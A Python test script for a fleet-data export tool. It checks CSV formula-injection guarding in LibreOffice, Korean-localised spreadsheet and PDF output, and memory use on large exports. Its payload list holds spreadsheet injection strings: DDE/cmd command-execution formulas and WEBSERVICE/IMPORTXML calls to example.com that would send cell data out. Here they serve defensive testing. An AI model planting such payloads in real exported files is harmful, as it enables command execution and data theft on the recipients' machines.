# SPDX-License-Identifier: GPL-3.0-or-later
"""Exports as others read them: LibreOffice, pdftotext, and the kernel's account of memory.

Usage: office.py BUILD
"""

import csv
import datetime
import json
import os
import re
import subprocess
import sys
import tempfile
import zipfile
from xml.etree import ElementTree

BUILD = sys.argv[1]
SOURCE = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
HEADLESS = os.path.join(BUILD, "src/headless/fleet-headless")
MAKE_HISTORY = os.path.join(BUILD, "tests/engine/report/make-history")
RULES = os.path.join(SOURCE, "data/rules.ini")
START = datetime.datetime(2026, 9, 1, tzinfo=datetime.timezone.utc)
PERIOD = ["--from", "2026-09-01T00:00:00Z", "--to", "2026-09-01T01:00:00Z"]
results = []

# What people have typed into fields that ended in a spreadsheet, each in many dresses.
PAYLOADS = ["=1+1", "=SUM(1;2)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://example.com\";\"x\")", "=WEBSERVICE(\"http://example.com\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "+1+1", "+82-10-1234-5678",
            "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=IMPORTXML(CONCAT(\"http://example.com/\";A1);\"//a\")", "=A1", "=1", "=\"x\"", "={1;2}", "=-1", "=+1", "=@A1", "=TRUE()"]
DRESSES = ["{}", " {}", "\t{}", "\r{}", "\n{}", "\u00a0{}", "\ufeff{}", "\u3000{}", "\u200b{}", "{}\n"]
FULL_WIDTH = str.maketrans("=+-@", "＝＋－＠")


def corpus():
    texts = [dress.format(payload) for payload in PAYLOADS for dress in DRESSES]
    texts += [payload.translate(FULL_WIDTH) for payload in PAYLOADS]
    return texts


def run(*command, **options):
    return subprocess.run(command, check=True, capture_output=True, text=True, **options)


def export(database, output, *options):
    run(HEADLESS, "export", "--database", database, "--output", output, *options)


def convert(folder, path, kind):
    """Opens a file as a person would, and saves it as another kind; Hangul and commas as a Korean desk has them."""
    profile = os.path.join(folder, "office")
    source = ["--infilter=CSV:44,34,76,1,,1042,false,true,false,false,false,-1"] if path.endswith(".csv") else []
    run("soffice", f"-env:UserInstallation=file://{profile}", "--headless", *source, "--convert-to", kind, "--outdir", folder, path, env={**os.environ, "HOME": folder, "LC_ALL": "ko_KR.UTF-8"})


def count_formulas(folder, path):
    convert(folder, path, "ods")
    with zipfile.ZipFile(os.path.splitext(path)[0] + ".ods") as file:
        return len(re.findall(r"table:formula=", file.read("content.xml").decode()))


def literal(text):
    return "CAST (x'" + text.encode().hex() + "' AS TEXT)"


def check_formulas(folder, database):
    texts = corpus()
    assert len(texts) >= 200
    statement = "SELECT * FROM (VALUES " + ", ".join(f"({number}, {literal(text)})" for number, text in enumerate(texts)) + ")"
    guarded, bare = os.path.join(folder, "guarded.csv"), os.path.join(folder, "bare.csv")
    export(database, guarded, "--sql", statement)
    export(database, bare, "--sql", statement, "--unguarded")
    # The control: without the guard some of them do run, so the test can tell.
    alive, left = count_formulas(folder, bare), count_formulas(folder, guarded)
    print(f"# {len(texts)} texts; {alive} live formulas without the guard, {left} with it")
    assert alive >= 10 and left == 0
    with open(guarded, encoding="utf-8", newline="") as file:
        assert [row[1].removeprefix("'") for row in list(csv.reader(file))[1:]] == texts


def read_sheet(path):
    """Rows of an .xlsx's first sheet without empty cells, as texts and numbers."""
    name = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
    with zipfile.ZipFile(path) as file:
        shared = ["".join(part.text or "" for part in item.iter(name + "t")) for item in ElementTree.fromstring(file.read("xl/sharedStrings.xml"))]
        sheet = ElementTree.fromstring(file.read("xl/worksheets/sheet1.xml"))
    rows = []
    for row in sheet.iter(name + "row"):
        cells = [(cell.get("t"), cell.findtext(name + "v")) for cell in row.iter(name + "c")]
        rows.append([shared[int(value)] if kind == "s" else float(value) for kind, value in cells if value is not None])
    return rows


def check_korean(folder, database):
    for report in ("alerts", "utilisation", "tyres"):
        path = os.path.join(folder, report + ".csv")
        export(database, path, "--report", report, "--lang", "ko", "--localised", "--zone", "Asia/Seoul", *PERIOD)
        with open(path, "rb") as file:
            assert file.read(3) == b"\xef\xbb\xbf"
        with open(path, encoding="utf-8-sig", newline="") as file:
            ours = [[cell for cell in row if cell] for row in csv.reader(file)]
        convert(folder, path, "xlsx")
        theirs = read_sheet(os.path.join(folder, report + ".xlsx"))
        assert len(ours) == len(theirs) > 1, (len(ours), len(theirs))
        hangul = 0
        for mine, seen in zip(ours, theirs):
            assert len(mine) == len(seen), (mine, seen)
            for cell, value in zip(mine, seen):
                hangul += bool(re.search("[가-힣]", cell))
                # A number is one there too; a text is the very text.
                assert cell == value if isinstance(value, str) else abs(float(cell) - value) < 1e-9 * max(1, abs(value)), (cell, value)
        assert hangul > len(ours)


def check_paper(folder, database):
    path = os.path.join(folder, "tyres.pdf")
    export(database, path, "--report", "tyres", "--lang", "ko", "--zone", "Asia/Seoul", *PERIOD)
    pages = run("pdftotext", "-layout", path, "-").stdout.split("\f")[:-1]
    rows = [json.loads(line) for line in run(HEADLESS, "export", "--database", database, "--report", "tyres", "--format", "jsonl", "--output", "-", *PERIOD).stdout.splitlines()]
    assert len(pages) > 2
    for number, page in enumerate(pages, 1):
        assert f"{number} / {len(pages)}쪽" in page, page[-200:]
        assert "번호판" in page and "바퀴" in page
    text = "\n".join(pages)
    assert "타이어 공기압과 마모" in pages[0] and "2026-09-01 09:00 – 2026-09-01 10:00 (UTC+09:00)" in pages[0]
    for row in rows:
        assert row["plate"] in text and f"{row['pressure_least_kpa']:.1f}" in text, row
    assert len(re.findall(r"^ *CAR-\d+ ", text, re.M)) == len(rows)
    fonts = run("pdffonts", path).stdout
    assert all(line.split()[-5] == "yes" for line in fonts.splitlines()[2:]), fonts


def peak_kb(database, rows, output):
    """The most memory that one export had, as the kernel tells of a child that is over."""
    statement = (f"WITH RECURSIVE c (n) AS (SELECT 0 UNION ALL SELECT n + 1 FROM c LIMIT {rows}) SELECT fleet_time (1788220800000000 + n * 1000000) AS event_at, 'CAR-' || n AS car_id,"
                 " n * 0.1 AS odometer_km, '12가 ' || n AS plate FROM c")
    child = subprocess.Popen([HEADLESS, "export", "--database", database, "--sql", statement, "--zone", "Asia/Seoul", "--lang", "en", "--output", output], stderr=subprocess.PIPE, text=True)
    warning = child.stderr.read()
    _, status, usage = os.wait4(child.pid, 0)
    assert status == 0, warning
    assert ("spreadsheets show only 1048575" in warning) == (rows > 1048575)
    return usage.ru_maxrss


def check_memory(folder, database):
    path = os.path.join(folder, "many.csv")
    small, great = peak_kb(database, 200000, path), peak_kb(database, 2000000, path)
    print(f"# {small} kB for 200,000 rows, {great} kB for 2,000,000")
    assert great - small < 2048
    with open(path, encoding="utf-8", newline="") as file:
        n, last = 0, None
        for n, last in enumerate(csv.reader(file)):
            pass
    assert n == 2000000 and last[1] == "CAR-1999999" and abs(float(last[2]) - 199999.9) < 1e-6 and last[3] == "12가 1999999", (n, last)


def attempt(name, check, *arguments):
    try:
        check(*arguments)
        wrong = None
    except (AssertionError, subprocess.CalledProcessError, OSError, ValueError) as error:
        wrong = f"{type(error).__name__}: {error} {getattr(error, 'stderr', '') or ''}"
    results.append(wrong is None)
    print(f"{'ok' if wrong is None else 'not ok'} {len(results)} - {name}", flush=True)
    if wrong:
        print("# " + wrong[:1500].replace("\n", "\n# "))


def main():
    with tempfile.TemporaryDirectory() as folder:
        database = os.path.join(folder, "fleet.db")
        run(HEADLESS, "simulate", "--vehicles", "60", "--seconds", "1200", "--seed", "5", "--start", START.isoformat().replace("+00:00", "Z"), "--rules", RULES, "--output", folder)
        run(MAKE_HISTORY, database, folder, RULES)
        attempt("no formula of the corpus lives in LibreOffice", check_formulas, folder, database)
        attempt("Korean reports open in LibreOffice as they are", check_korean, folder, database)
        attempt("paper: headings and numbers on each page, every row there", check_paper, folder, database)
        attempt("2,000,000 rows in the memory of 200,000", check_memory, folder, database)
    print(f"{sum(results)} passed, {len(results) - sum(results)} failed")
    sys.exit(0 if all(results) else 1)


main()
